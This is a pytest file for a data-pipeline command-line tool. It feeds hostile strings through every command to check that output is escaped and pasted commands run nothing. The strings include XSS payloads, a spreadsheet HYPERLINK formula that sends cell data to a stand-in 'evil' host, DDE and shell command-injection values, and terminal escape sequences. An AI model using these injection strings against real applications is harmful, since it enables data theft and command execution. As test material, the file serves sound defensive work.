"""What a person, a shell or a program reads: hostile texts, as every field, go through every command."""

import csv
import io
import json
import re
import shlex
import subprocess
import sys
from pathlib import Path

import duckdb
import msgspec
import polars as pl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pipelines.cli import COMMANDS, main, parse_command
from pipelines.system.csv_line import csv_line
from pipelines.system.terminal import by_lines, guarded, option, put, shown, word
from transforms.mapping import load_mapping

EMOJI = ["👩🏽‍🚀", "❤️‍🔥", "1️⃣", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"]
READABLE = ["مرحبا بالعالم", "שלום", "می‌خواهم", "क्‍ष", "日本語", "é", "a b", "C:\\x", *EMOJI]
UNSEEN = {
    "\u001b]0;OWNED\u0007\u001b[2J": r"\u001b]0;OWNED\u0007\u001b[2J",
    "\u009b2J": r"\u009b2J",
    "a\u202eb": r"a\u202eb",
    "a\u2066b\u2069": r"a\u2066b\u2069",
    "a\u200bb": r"a\u200bb",
    "a\u200db": r"a\u200db",
    "a\ufe0fb": r"a\ufe0fb",
    "a\u3164": r"a\u3164",
    "a\u2028b": r"a\u2028b",
    "a\U000e0041b": r"a\udb40\udc41b",
    "a\r\u007fb": r"a\r\u007fb",
    "line1\nline2\r\nerror: fake": r"line1\nline2\r\nerror: fake",
    "a\tb": r"a\tb",
}
EVIL = [
    "<script>document.title='PWN1'</script>",
    "\"><img src=x onerror=document.title='PWN2'>",
    "</script><script>document.title='PWN3'</script>",
    "<!--<script>",
    "javascript:alert(1)",
    "{{script}}",
    "{{policy}}",
    '=HYPERLINK("http://evil/?x="&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "x$(touch PWNED)",
    "`touch P2`",
    "; touch P3 #",
    "it's!",
    "&lt;b&gt;",
    "-x",
    "--debug",
    "k: [1, 2] # c",
    *UNSEEN,
    *READABLE,
]
MARKS = st.sampled_from("\r\n\t\0\x1b\x85\u2028\u202e\",;'|#\\ =-$`!")
TEXTS = st.text(st.characters(exclude_categories=["Cs"]) | MARKS)


def is_safe(text: str) -> bool:
    """Whether a terminal obeys nothing in a text, and nothing in it hides."""
    seen = re.sub("\n|\u200c|\u200d|\U0001f3f4[\U000e0061-\U000e007f]+", "", text)  # what emoji and scripts need
    return text == by_lines(text) and seen.isprintable()


@pytest.mark.parametrize("text", READABLE)
def test_what_can_be_read_stays(text):
    assert shown(text) == text


@pytest.mark.parametrize(("text", "seen"), UNSEEN.items())
def test_what_would_not_be_seen_is_escaped(text, seen):
    assert shown(text) == seen


@given(st.text())
def test_any_text_is_shown_on_a_line_and_its_json_still_says_the_same(text):
    assert "\n" not in shown(text) and shown(shown(text)) == shown(text)
    assert json.loads(shown(json.dumps(text, ensure_ascii=False))) == text


def of_a_shell(command: str) -> list[str]:
    """What bash hands to `audience` for a command that was pasted."""
    script = f"audience() {{ printf '%s\\0' \"$@\"; }}\n{command}"
    ran = subprocess.run(["bash", "-c", script], capture_output=True, check=True)
    assert ran.stderr == b""
    return [part.decode("utf-8", "surrogateescape") for part in ran.stdout.split(b"\0")[:-1]]


@settings(max_examples=25, deadline=None)
@given(st.lists(TEXTS.filter(lambda text: "\0" not in text), min_size=1, max_size=20))
def test_a_word_is_what_it_was_in_a_shell(texts):
    words = " ".join(map(word, [*texts, "\udcff"]))
    assert is_safe(words) and "\n" not in words
    assert of_a_shell(f"audience {words}") == [*texts, "\udcff"]


def test_a_value_that_begins_with_a_dash_is_no_option():
    assert option("find", "-x") == "--find=-x"
    assert shlex.split(option("find", "a b")) == ["--find", "a b"]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(TEXTS, TEXTS | st.none()), min_size=1, max_size=8), TEXTS)
@example([("", None)], "\r")
def test_csv_is_given_back_by_every_reader(tmp_path_factory, rows, name):
    lines = [csv_line(row) for row in (("a", f"b{name}"), *rows)]
    text = "".join(f"{line}\n" for line in lines)
    assert list(csv.reader(io.StringIO(text, newline="")))[1:] == [[a, b or ""] for a, b in rows]
    read = pl.read_csv(text.encode(), infer_schema=False)
    assert read.rows() == rows
    path = tmp_path_factory.getbasetemp() / "of.csv"
    path.write_bytes(text.encode())
    # Without its sniffer, which takes a carriage return inside quotes for an end of line.
    how = "auto_detect = false, header = true, allow_quoted_nulls = false, delim = ',', quote = '\"', escape = '\"'"
    columns = "columns = {'a': 'VARCHAR', 'b': 'VARCHAR'}, new_line = '\\n'"
    assert duckdb.sql(f"SELECT * FROM read_csv('{path}', {how}, {columns})").fetchall() == rows


def test_a_column_alone_has_a_line_for_each_row():
    assert [csv_line([each]) for each in (None, "", "a", "a\n", " a", "#a", "a;b", "\ufeffa", "1 2")] == [
        *('""', '""', "a", '"a\n"', '" a"', '"#a"', '"a;b"', '"\ufeffa"', "1 2")
    ]


def test_whatever_is_printed_passes_the_guard_and_a_stream_of_fewer_letters_takes_it(monkeypatch):
    narrow = io.TextIOWrapper(io.BytesIO(), encoding="ascii", write_through=True)
    narrow.isatty = lambda: True
    monkeypatch.setattr(sys, "stdout", narrow)
    guarded(lambda: print("\x1b[31m\u202eé\ntwo") or 0)()
    assert narrow.buffer.getvalue() == rb"\u001b[31m\u202e\xe9" + b"\ntwo\n"
    assert sys.stdout is narrow


def test_a_command_that_prints_without_a_thought_is_guarded(monkeypatch, capsys):
    def run(values, rest):
        print("out\x1b[2J\nnext")
        print("err\u202e", file=sys.stderr)

    monkeypatch.setitem(COMMANDS, "stop", COMMANDS["stop"]._replace(run=run))
    assert main(["stop"]) == 0
    assert capsys.readouterr() == ("out\\u001b[2J\nnext\n", "err\\u202e\n")


def test_csv_is_as_it_is_for_programs_and_shown_on_a_terminal(monkeypatch, capsys):
    put(['"a\x1b\nb"'], "csv")
    assert capsys.readouterr().out == '"a\x1b\nb"\n'
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    put(['"a\x1b\nb"'], "csv")
    assert capsys.readouterr().out == '"a\\u001b\\nb"\n'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A folder with the file of events, whose name is hostile as well; the warehouse is beside it."""
    home = tmp_path_factory.mktemp("hostile")
    events = [
        {"event_id": f"e{n}", "event_type": "page_view", "event_time": f"2026-03-0{1 + n % 3}T10:00:00Z"}
        | {"user_id": each, "anonymous_id": f"an{n}", "channel": "web", "text": each, "properties": {each: each}}
        | {name: each for name in ("content_id", "category", "campaign", "content_type", "referrer")}
        | {each: each, "source": "shop"}
        for n, each in enumerate(EVIL)
    ]
    bad = {"event_id": "bad", "event_type": "page_view", "event_time": "\x1b[2J\nnever", "source": "a\nb"}
    text = "\n".join(map(json.dumps, [*events, bad]))
    (home / "e\n\x1b[31m\u202e $(touch P).jsonl").write_text(text + "\n")
    return home


@pytest.fixture(scope="module")
def filled(hostile):
    """(the folder, what the backfill said on stderr)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(hostile)
        said = io.StringIO()
        patch.setattr(sys, "stderr", said)
        assert main(["backfill", "--input", next(hostile.glob("e*.jsonl")).name, "--workers", "1"]) == 0
    return hostile, said.getvalue()


@pytest.fixture
def say(filled, monkeypatch, capsys):
    """say(words) -> (stdout, stderr) of a command in the folder, both safe to read; `csv` alone is for programs."""
    monkeypatch.chdir(filled[0])

    def says(*words: str, status: int = 0) -> tuple[str, str]:
        capsys.readouterr()
        assert main(list(words)) == status
        said = capsys.readouterr()
        assert is_safe(said.err)
        assert "--csv" in words or is_safe(said.out)
        return said.out, said.err

    return says


def test_a_summary_shows_the_name_of_a_file_on_a_line(filled):
    assert is_safe(filled[1])
    assert filled[1].splitlines()[0].startswith(r"e\n\u001b[31m\u202e $(touch P).jsonl ")
    assert re.search(r"^  events +\d+$", filled[1], re.MULTILINE)


def test_a_query_says_the_same_in_each_form(say):
    sql = 'SELECT content_id AS "c\x1b[31m\u202e,\n" FROM events ORDER BY event_id'
    ids = [EVIL[n] for n in sorted(range(len(EVIL)), key=lambda n: f"e{n}")]
    table = say("query", sql)[0].splitlines()
    assert [line.rstrip() for line in table[2:]] == [shown(each) for each in ids]
    assert table[0] == r"c\u001b[31m\u202e,\n"
    lines = say("query", sql, "--json")[0].splitlines()
    assert [list(json.loads(line).values()) for line in lines] == [[each] for each in ids]
    rows = list(csv.reader(io.StringIO(say("query", sql, "--csv")[0], newline="")))
    assert rows == [["c\x1b[31m\u202e,\n"], *([each] for each in ids)]


@pytest.mark.parametrize("first", range(0, len(EVIL), 10))
def test_a_command_to_paste_finds_the_person_and_runs_nothing(first, say, filled):
    ids = EVIL[first : first + 10]
    _, err = say("person", *(word for n in range(first, first + len(ids)) for word in ("--find", f"an{n}")))
    [pasted] = [line.removeprefix("next: ") for line in err.splitlines() if line.startswith("next: ")]
    argv = of_a_shell(pasted)
    assert sorted(parse_command(argv)[1].find) == sorted(ids)
    if "$'" not in pasted:
        assert shlex.split(pasted)[1:] == argv
    assert sorted(path.name for path in filled[0].iterdir() if not path.name.startswith(("e", "r"))) == ["warehouse"]


def test_a_report_and_doctor_hold_nothing_that_hides(say):
    say("report", "--output", "r.html")
    page = Path("r.html").read_text(encoding="utf-8").partition('<script type="module">')[0]
    assert is_safe(page) and r"\u001b]0;OWNED\u0007" in page
    say("doctor")
    say("doctor", "--json")
    say("doctor", "--warehouse", "a\u202eb\x1b")


def test_a_proposal_is_a_mapping_whatever_the_keys_and_values_say(say, filled):
    sample = next(filled[0].glob("e*.jsonl")).name
    out, _ = say("mapping", "--from", sample, "--output", "-")
    load_mapping(out, "proposed")
    _, err = say("mapping", "--from", sample, "--output=-m\u202e.yaml")
    pasted = [line.removeprefix("next: ") for line in err.splitlines() if line.startswith("next: ")]
    check, backfill = map(of_a_shell, pasted)
    assert (parse_command(check)[1].check, parse_command(check)[1].input) == ("-m\u202e.yaml", [sample])
    assert (parse_command(backfill)[1].mapping, parse_command(backfill)[1].input) == (["-m\u202e.yaml"], [sample])
    say(*check, status=1)


@pytest.mark.parametrize(
    "words",
    [
        ["query", "SELECT \x1b[31m\u202e"],
        ["query", "SELECT 1", "--warehouse", "no\nerror: fake\x1b"],
        ["person", "--find", "\x1b[2J", "--\x1b[31m\n"],
        ["run\x1b[31m"],
        ["backfill", "--input", "none\x1b[31m\n\u202e.jsonl"],
        ["backfill", "--input", "e*.jsonl", "--mapping", "no\x1b\n.yaml"],
        ["report", "--output", "no\n\x1b/r.html"],
        ["simulate", "--events", "1", "--output", "no\n\x1b/e.jsonl"],
        ["stop", "--warehouse", "warehouse\x1b"],
        ["config", "--show", "--config", "no\x1b\n.yaml"],
    ],
    ids=lambda words: words[0][:8] + str(len(words)),
)
def test_an_error_is_a_line_whatever_was_typed(words, say):
    out, err = say(*words, status=2)
    first, *place = err.splitlines()
    assert out == "" and first.startswith("error: ")
    assert not place or (words[0] == "query" and [line[:8] for line in place] == ["", "LINE 1: ", " " * 8])


def test_rows_in_json_are_json_whatever_a_number_is(say):
    out, _ = say("query", "SELECT 'NaN'::DOUBLE AS n, 'Infinity'::DOUBLE AS i, [('-Infinity'::DOUBLE)] AS l", "--json")
    assert msgspec.json.decode(out) == {"n": None, "i": None, "l": [None]}
